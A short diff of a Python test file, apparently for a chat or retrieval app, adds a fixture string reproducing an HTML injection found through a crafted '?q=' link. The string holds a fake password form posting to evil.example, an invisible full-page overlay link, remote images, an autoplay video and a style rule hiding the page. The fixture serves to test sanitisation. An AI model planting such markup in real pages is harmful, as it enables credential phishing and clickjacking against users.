@@ -27,6 +27,14 @@ SAMPLE = ROOT / "corpus" / "000_15735037f31751e9.txt"
 SEED_ID = SAMPLE.name
 TRADE_QUESTION = "How much did trade between China and Russia grow?"
 
+# What a crafted `/?q=` link put into the chat page (issue 18, finding 1): a password form posting
+# elsewhere, an invisible link over the whole page, images and a video from a third party.
+SHARED_LINK_PAYLOAD = ('<form action="https://evil.example/login"><input type="password" name="p"><button>Sign in'
+                       '</button></form><a href="https://evil.example/" style="position:fixed;inset:0">.</a> '
+                       '![x](https://evil.example/x.png) [here](https://evil.example/) '
+                       '<img src="https://evil.example/y.png"> <video src="https://evil.example/v.mp4" autoplay></video> '
+                       '<style>*{display:none}</style> Who is *Liu* Weidong? www.evil.example mail@evil.example')
+
 
 @pytest.fixture(scope="session")
 def embedder():
